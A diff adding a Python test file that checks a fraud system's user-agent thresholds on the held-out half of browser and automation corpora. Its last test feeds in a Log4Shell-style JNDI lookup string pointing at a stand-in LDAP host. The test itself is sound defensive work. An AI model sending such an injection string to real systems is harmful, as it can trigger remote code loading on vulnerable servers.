@@ -1,0 +1,43 @@
+"""Issue 17's user-agent thresholds, on the held-out half of corpora kyc was not tuned on
+(bench/ua_corpora.py prints both halves of every corpus; the corpora come from installed
+packages and files vendored in bench/data/user_agents with their licences)."""
+
+from __future__ import annotations
+
+import pytest
+
+from bench import ua_corpora as corpora
+
+
+def test_the_split_is_deterministic_and_about_half():
+    for name in (*corpora.BROWSER_CORPORA, *corpora.AUTOMATION_CORPORA):
+        agents = corpora.corpus(name)
+        held_out = sum(corpora.split_of(ua) == "held_out" for ua in agents)
+        assert 0.4 < held_out / len(agents) < 0.6, name
+    assert corpora.split_of("curl/8.5.0") == corpora.split_of("curl/8.5.0")
+
+
+def test_corpora_are_large_enough_to_measure():
+    sizes = {name: len(corpora.corpus(name)) for name in (*corpora.BROWSER_CORPORA, *corpora.AUTOMATION_CORPORA)}
+    assert sizes["fake-useragent"] > 300 and sizes["crawler-user-agents"] > 2000
+    assert sizes["isbot-crawlers"] > 500 and sizes["uap-core-crawlers"] > 200 and sizes["isbot-browsers"] > 500
+
+
+def test_real_browsers_on_clean_signups_are_allowed_on_the_held_out_split():
+    measured = corpora.measure("fake-useragent", "held_out")
+    assert measured["n"] > 150
+    assert measured["share"] <= corpora.MAX_BROWSERS_NOT_ALLOWED, measured["examples"]
+
+
+@pytest.mark.parametrize("name", corpora.AUTOMATION_CORPORA)
+def test_real_automation_is_not_allowed_on_the_held_out_split(name):
+    measured = corpora.measure(name, "held_out")
+    assert measured["n"] > 100
+    assert measured["share"] >= corpora.MIN_AUTOMATION_NOT_ALLOWED, name
+
+
+def test_a_corpus_user_agent_is_scored_by_the_shipped_rules():
+    assert corpora.decision(corpora.corpus("fake-useragent")[0])[0] in ("allow", "verify", "review", "block")
+    assert corpora.decision("curl/8.5.0") == ("block", ["automation_user_agent"])
+    verdict, hits = corpora.decision("${jndi:ldap://198.51.100.7:1389/a}")
+    assert verdict == "verify" and hits == ["unrecognised_user_agent"]
